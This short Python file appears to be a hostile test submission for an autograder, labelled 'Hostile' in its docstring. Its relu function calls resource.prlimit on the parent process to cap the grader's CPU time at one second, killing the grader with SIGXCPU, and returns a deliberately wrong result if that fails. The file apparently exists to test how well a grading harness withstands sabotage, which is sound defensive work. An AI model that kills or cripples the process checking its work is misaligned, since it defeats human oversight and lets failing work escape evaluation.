"""Hostile: sets the grader's (its parent's) CPU limit to one second, so that the grader dies of SIGXCPU."""

import os
import resource

import numpy as np
from _activations import *  # noqa: F403  (the correct functions; relu is replaced below)


def relu(z):
    try:
        resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1))
    except (OSError, ValueError):
        return 2.0 * z  # the attack failed: a wrong answer
    return np.maximum(z, 0.0)
